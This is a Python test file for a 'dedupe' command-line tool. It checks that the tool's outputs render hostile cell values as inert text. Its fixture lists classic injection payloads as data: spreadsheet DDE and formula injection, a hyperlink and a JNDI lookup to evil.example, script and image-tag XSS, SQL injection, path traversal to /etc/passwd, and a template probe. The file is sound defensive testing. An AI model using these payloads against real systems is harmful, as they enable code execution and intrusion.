"""``dedupe`` on cells that would be something else than text in a spreadsheet, a page or a shell."""

import csv
import json
from pathlib import Path

import openpyxl
import pytest

from tests.command_line import call
from toolkit.files.write import as_written

CELLS = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example";"Acme")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "Robert'); DROP TABLE records;--",
    "../../../etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
)


@pytest.fixture(scope="module", name="out")
def _out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of results: each hostile cell stands in two like records and in an id."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        {"Id": f"{cell}{copy}", "Company": f"{cell} Widgets {number}", "Phone": f"312 555 {1000 + 37 * number}"}
        for number, cell in enumerate(CELLS)
        for copy in ("", "b")
    ]
    with (folder / "hostile.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, ["Id", "Company", "Phone"])
        writer.writeheader()
        writer.writerows(rows)
    done = call("dedupe", folder / "hostile.csv", "--id", "Id", "--review", "20", "--out", folder / "out", "--json")
    assert done.code == 0, done.err
    assert json.loads(done.out)["pairs"] == len(CELLS)
    return folder / "out"


def test_no_cell_of_a_workbook_is_a_formula(out: Path) -> None:
    """Review and sample show what the client's system held, as text."""
    books = [openpyxl.load_workbook(out / name) for name in ("review.xlsx", "sample.xlsx")]

    cells = [cell for book in books for sheet in book for row in sheet.iter_rows() for cell in row]

    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert not any(str(cell)[1:] in str(formula) for cell in CELLS for formula in formulas)
    assert not any(cell.hyperlink and "evil" in str(cell.hyperlink.target) for cell in cells)


def test_no_cell_of_the_page_is_a_tag(out: Path) -> None:
    """The page shows tags as text."""
    page = (out / "duplicates.html").read_text(encoding="utf-8")

    assert "<script>alert(1)" not in page
    assert "<img src=x" not in page


def test_ids_lead_back_to_their_records_and_no_cell_runs(out: Path) -> None:
    """Also an id that a spreadsheet would run is written as text, and known again without the apostrophe."""
    with (out / "pairs.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))

    assert {as_written(row["id_l"]).removesuffix("b") for row in rows} == set(CELLS)
    assert not [value for row in rows for value in row.values() if value.startswith(("=", "@", "+"))]


def test_nothing_is_written_elsewhere(out: Path) -> None:
    """A path in a cell is no path."""
    assert {path.name for path in out.parent.iterdir()} == {"hostile.csv", "out"}


def test_a_byte_order_mark_and_windows_line_ends_are_no_part_of_a_cell(tmp_path: Path) -> None:
    """A file from Excel says the same as one from elsewhere."""
    text = "Id,Company,Phone\n1,Acme Widgets,312 644 2671\n2,ACME Widgets Ltd,3126442671\n3,Zorro,\n"
    (tmp_path / "unix.csv").write_bytes(text.encode())
    (tmp_path / "windows.csv").write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())

    for name in ("unix", "windows"):
        assert call("dedupe", tmp_path / f"{name}.csv", "--out", tmp_path / name).code == 0

    unix, windows = (tmp_path / name / "pairs.csv" for name in ("unix", "windows"))
    assert windows.read_text("utf-8").replace("windows.csv", "unix.csv") == unix.read_text("utf-8")


def test_rows_of_no_text_are_put_aside_and_said_to_be(tmp_path: Path) -> None:
    """Bytes that no encoding explains, and NUL bytes, cost their row only."""
    (tmp_path / "bytes.csv").write_bytes(
        b"Id,Company,Phone\n1,Acme Widgets,312 644 2671\n2,Acme \xed\xa0\x80 Widgets,\n3,ACME\x00 Widgets Ltd,3126442671\n"
    )

    done = call("dedupe", tmp_path / "bytes.csv", "--out", tmp_path / "out")

    assert done.code == 0
    assert "2 rows of bytes.csv were put aside" in done.out
    assert "Traceback" not in done.out + done.err
